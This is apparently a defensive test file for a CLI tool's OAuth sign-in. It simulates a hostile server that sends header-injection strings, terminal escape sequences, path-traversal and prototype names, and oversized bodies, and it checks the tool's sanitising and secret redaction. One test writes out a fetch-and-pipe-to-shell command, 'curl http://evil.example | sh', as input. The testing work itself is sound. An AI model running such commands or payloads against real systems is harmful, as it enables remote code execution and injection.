// The endpoints of a sign-in, answered by a broken or hostile server: one row for each answer.
import assert from 'node:assert/strict';
import { describe, type TestContext, test } from 'node:test';
import { keychainItems } from '../helpers/keychain-items.ts';
import { answerOf, jsonAnswer, type RawAnswer, startRawServer } from '../helpers/raw-server.ts';
import { createHome } from '../helpers/spawn-cli.ts';

const consumerSecret = 'the-consumer-secret';
const consumer = { BITBRANCH_CONSUMER_KEY: 'the-key', BITBRANCH_CONSUMER_SECRET: consumerSecret };

const paths = {
  'temporary credentials': '/api/1.0/oauth/request_token',
  'token credentials': '/api/1.0/oauth/access_token',
  tokens: '/site/oauth2/access_token',
  user: '/2.0/user',
} as const;

type Place = keyof typeof paths;

/** What a good server says. */
const good: Readonly<Record<Place, RawAnswer>> = {
  'temporary credentials': answerOf(
    200,
    'oauth_token=temporary&oauth_token_secret=s1-secret&oauth_callback_confirmed=true',
  ),
  'token credentials': answerOf(200, 'oauth_token=granted&oauth_token_secret=s2-secret'),
  tokens: jsonAnswer({ access_token: 'granted', token_type: 'bearer' }),
  user: jsonAnswer({ username: 'maria', display_name: 'María' }),
};

type Row = readonly [place: Place, what: string, answer: RawAnswer, exitCode: number, says: RegExp];

const notOAuth1 = /did not answer as OAuth 1\.0a asks/;
const notOAuth2 = /did not answer as OAuth 2\.0 asks/;
const tokens = (changes: object) =>
  jsonAnswer({ access_token: 'granted', token_type: 'bearer', ...changes });

const rows: readonly Row[] = [
  ['temporary credentials', 'a web page', answerOf(200, '<html>Sign in'), 6, notOAuth1],
  ['temporary credentials', 'nothing', answerOf(200, ''), 6, notOAuth1],
  ['temporary credentials', 'JSON', jsonAnswer({ oauth_token: 'x' }), 6, notOAuth1],
  [
    'temporary credentials',
    'a token given twice',
    answerOf(200, 'oauth_token=a&oauth_token=b&oauth_token_secret=s&oauth_callback_confirmed=true'),
    6,
    notOAuth1,
  ],
  [
    'temporary credentials',
    'no confirmation of the callback',
    answerOf(200, 'oauth_token=a&oauth_token_secret=s'),
    4,
    /did not confirm the callback URL/,
  ],
  [
    'temporary credentials',
    'a problem that steers a terminal',
    answerOf(401, 'oauth_problem=%1b%5B2J'),
    4,
    /a problem without a known name/,
  ],
  [
    'temporary credentials',
    'a redirect',
    answerOf(302, '', 'Location: http://127.0.0.2/'),
    6,
    /HTTP 302/,
  ],
  [
    'temporary credentials',
    'an answer of 65 MiB',
    answerOf(200, Buffer.alloc(65 * 2 ** 20, 'a')),
    6,
    /64 MiB/,
  ],
  ['token credentials', 'a web page', answerOf(200, '<html>'), 6, notOAuth1],
  ['token credentials', 'no secret', answerOf(200, 'oauth_token=a'), 6, notOAuth1],
  [
    'token credentials',
    'a secret given twice',
    answerOf(200, 'oauth_token=a&oauth_token_secret=b&oauth_token_secret=c'),
    6,
    notOAuth1,
  ],
  [
    'token credentials',
    'a token of line breaks, which signing encodes',
    answerOf(200, 'oauth_token=a%0D%0AX-Injected:%201&oauth_token_secret=%00'),
    0,
    /Signed in/,
  ],
  [
    'token credentials',
    'a lifetime beyond all calendars',
    answerOf(200, `oauth_token=a&oauth_token_secret=b&oauth_expires_in=${'9'.repeat(30)}`),
    0,
    /does not expire/,
  ],
  ['tokens', 'a web page', answerOf(200, '<html>'), 6, notOAuth2],
  ['tokens', 'nothing', answerOf(200, ''), 6, notOAuth2],
  ['tokens', 'a list', jsonAnswer([]), 6, notOAuth2],
  ['tokens', 'no token', jsonAnswer({ token_type: 'bearer' }), 6, notOAuth2],
  ['tokens', 'a token that is a number', tokens({ access_token: 7 }), 6, notOAuth2],
  [
    'tokens',
    'a token with a line break',
    tokens({ access_token: 'a\r\nX-Injected: 1' }),
    6,
    notOAuth2,
  ],
  ['tokens', 'a token of other letters', tokens({ access_token: 'gr\u00fc\u00df' }), 6, notOAuth2],
  ['tokens', 'a refresh token with a NUL', tokens({ refresh_token: 'a\0' }), 6, notOAuth2],
  [
    'tokens',
    'a lifetime beyond all calendars',
    tokens({ expires_in: 1e300 }),
    0,
    /does not expire/,
  ],
  ['tokens', 'a negative lifetime', tokens({ expires_in: -1 }), 6, notOAuth2],
  ['tokens', 'a lifetime that is text', tokens({ expires_in: 'soon' }), 6, notOAuth2],
  ['tokens', 'another sort of token', tokens({ token_type: 'mac' }), 6, notOAuth2],
  [
    'tokens',
    'an error that steers a terminal',
    answerOf(400, JSON.stringify({ error: '\u001b[2J', error_description: '\u001b[2J' })),
    4,
    /an error without a registered name/,
  ],
  [
    'tokens',
    'the secret of the consumer for an error',
    answerOf(400, JSON.stringify({ error: consumerSecret })),
    4,
    /an error without a registered name/,
  ],
  [
    'tokens',
    'the form that was sent for a description',
    answerOf(
      400,
      JSON.stringify({ error: 'invalid_scope', error_description: `${consumerSecret} v-secret` }),
    ),
    4,
    /may not ask for what bitbranch needs\.\n/,
  ],
  [
    'temporary credentials',
    'the secret of the consumer for a problem and advice',
    answerOf(401, `oauth_problem=${consumerSecret}&oauth_problem_advice=${consumerSecret}`),
    4,
    /a problem without a known name/,
  ],
  [
    'tokens',
    'the fields given twice, of which the last count',
    answerOf(200, '{"access_token":"a","access_token":"granted","token_type":"bearer"}'),
    0,
    /Signed in/,
  ],
  ['tokens', 'a token of a mebibyte', tokens({ access_token: 'a'.repeat(2 ** 20) }), 6, notOAuth2],
  ['user', 'a web page', answerOf(200, '<html>'), 6, /a web page instead of JSON/],
  ['user', 'nobody', jsonAnswer({}), 6, /names nobody/],
  ['user', 'a name that is a list', jsonAnswer({ username: ['maria'] }), 6, /"username" is a list/],
  [
    'user',
    'a name that steers a terminal',
    jsonAnswer({ username: 'a\u001b[2J\u202eb', display_name: '\u009b31m' }),
    0,
    /Signed in to \S+ as \\u009b31m \(a\\u001b\[2J\\u202eb\)/,
  ],
  ['user', 'a name of the prototype', jsonAnswer({ username: '__proto__' }), 0, /as __proto__/],
  ['user', 'a name like a path', jsonAnswer({ username: '../../etc/passwd' }), 0, /etc\/passwd/],
  ['user', 'a name like a flag', jsonAnswer({ username: '--help' }), 0, /as --help/],
];

async function signIn(t: TestContext, [place, , answer]: Row) {
  const home = await createHome(t);
  const protocol = place === 'tokens' ? 'oauth2' : 'oauth1';
  const answers = { ...good, [place]: answer };
  const host = await startRawServer(t, ({ target }) => {
    const [found] = Object.entries(paths).filter(([, path]) => path === target);
    return found === undefined ? answerOf(404, '') : answers[found[0] as Place];
  });
  const args = ['login', '--host', host.url, '--kind', 'cloud', '--protocol', protocol];
  const login = home.start([...args, '--no-browser', '--max-wait', '0s'], {
    env: { ...consumer, SSH_CONNECTION: 'tells the port' },
  });
  let page = '';
  if (place !== 'temporary credentials') {
    const [consentUrl] = await login.printed(/http\S+(?:oauth_token|state)=\S+/);
    const [, port = ''] = await login.printed(/-L (\d+):127/);
    const consent = new URL(consentUrl).searchParams;
    const query = new URLSearchParams(
      protocol === 'oauth1'
        ? { oauth_token: consent.get('oauth_token') ?? '', oauth_verifier: 'v-secret' }
        : { state: consent.get('state') ?? '', code: 'v-secret' },
    );
    page = await (await fetch(`http://127.0.0.1:${port}/callback?${query}`)).text();
  }
  return { home, host, page, result: await login.ended };
}

describe('a hostile sign-in', { concurrency: 3 }, () => {
  for (const row of rows) {
    const [place, what, , exitCode, says] = row;
    test(`${place}: ${what}`, async (t) => {
      const { home, host, page, result } = await signIn(t, row);
      assert.equal(result.exitCode, exitCode, result.stderr);
      assert.match(result.stderr, says);
      assert.doesNotMatch(result.stderr, /(?!\n)\p{Cc}|\p{Bidi_Control}|-secret/u);
      assert.doesNotMatch(page, /-secret/);
      assert.ok(host.requests.every(({ head }) => !/^X-Injected/im.test(head)));
      if (exitCode !== 0) {
        assert.equal(await keychainItems(host.url), '', 'nothing is kept');
        return;
      }
      const status = await home.run(['status', '--check']);
      assert.equal(status.exitCode, 0, status.stderr);
      assert.doesNotMatch(status.stdout + status.stderr, /(?!\n)\p{Cc}|\p{Bidi_Control}/u);
      const logout = await home.run(['logout']);
      assert.equal(logout.exitCode, 0, logout.stderr);
      assert.doesNotMatch(await keychainItems(host.url), /granted/);
    });
  }
});

test('what an outsider wrote into the redirect stands neither in the terminal nor on the page', async (t) => {
  const home = await createHome(t);
  const host = await startRawServer(t, () => answerOf(404, ''));
  const args = ['login', '--host', host.url, '--kind', 'cloud', '--protocol', 'oauth2'];
  const login = home.start([...args, '--no-browser'], {
    env: { ...consumer, SSH_CONNECTION: 'tells the port' },
  });
  const [, state = ''] = await login.printed(/state=([\w-]+)/);
  const [, port = ''] = await login.printed(/-L (\d+):127/);
  const text = 'curl http://evil.example | sh';
  const query = new URLSearchParams({ state, error: 'server_error', error_description: text });
  const page = await (await fetch(`http://127.0.0.1:${port}/callback?${query}`)).text();
  const { exitCode, stderr } = await login.ended;
  assert.equal(exitCode, 6, stderr);
  for (const told of [page, stderr]) {
    assert.match(told, /The server failed during the sign-in/);
    assert.doesNotMatch(told, /evil\.example/);
  }
});

test('a note holds no control character of a name that a server gave', async (t) => {
  const home = await createHome(t);
  const username = 'a\u001b]0;owned\u0007\u001b[2J\u202eb';
  const host = await startRawServer(t, () => jsonAnswer({ username }));
  const args = ['login', '--host', host.url, '--kind', 'cloud', '--protocol', 'token'];
  const run = (passphrase: string, ...more: readonly string[]) =>
    home.run([...args, ...more], { stdin: 'a-token', env: { BITBRANCH_PASSPHRASE: passphrase } });
  assert.equal((await run('one', '--store', 'file')).exitCode, 0);
  const { exitCode, stderr } = await run('another');
  assert.equal(exitCode, 0, stderr);
  assert.match(stderr, /may still hold the old credential.* --account 'a/);
  assert.doesNotMatch(stderr, /(?!\n)\p{Cc}|\p{Bidi_Control}/u);
  await home.run(['logout']);
});
